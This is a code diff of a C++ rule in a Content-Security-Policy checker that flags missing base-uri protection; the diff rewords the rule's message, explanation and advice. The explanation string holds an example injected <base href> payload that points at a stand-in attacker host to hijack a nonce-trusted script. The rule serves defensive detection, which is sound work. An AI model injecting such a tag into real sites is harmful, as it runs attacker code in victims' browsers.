@@ -26,7 +26,7 @@ void check(const Context& context, Sink& sink) {
   ScriptList list;
   if (context.attacks.allowed(Attack::HttpsScript) || !script_list(context, list)) return;
   const decide::PolicyDecision& base = context.attacks.by(Attack::BaseUri);
-  std::string address = "any address";
+  std::string address = "any host";
   const csp::SourceExpression* source =
       context.attacks.allowed(Attack::BaseUri)
           ? base.source
@@ -51,13 +51,13 @@ extern const RuleSpec kRule = {
         .severity = Severity::Medium,
         .category = Category::Security,
         .confidence = Confidence::Likely,
-        .title = "A <base> tag can redirect the page's trusted scripts",
-        .message = "The policy trusts scripts by {0} and lets {1} be the base of every relative "
-                   "address.",
-        .why = "An injected <base href=\"https://attacker.example/\"> makes the page fetch "
-               "its own <script nonce=\"...\" src=\"app.js\"> from the attacker. The nonce is "
-               "right, so the attacker's file runs. default-src does not reach base-uri.",
-        .advice = "Add base-uri 'none', or base-uri 'self' if the site uses <base> itself.",
+        .title = "An injected <base> can redirect the page's trusted scripts",
+        .message = "The policy trusts scripts by {0} and lets <base> point relative URLs to {1}.",
+        .why = "An injected <base href=\"https://attacker.example/\"> makes the page fetch its own "
+               "<script nonce=\"...\" src=\"app.js\"> from the attacker. The nonce is right, so "
+               "the attacker's file runs.",
+        .advice = "Add base-uri 'none', or base-uri 'self' if the site uses <base> itself; "
+                  "default-src doesn't cover it.",
         .references = {"https://www.w3.org/TR/CSP3/#directive-base-uri",
                        "https://developer.mozilla.org/docs/Web/HTTP/Reference/Headers/"
                        "Content-Security-Policy/base-uri",
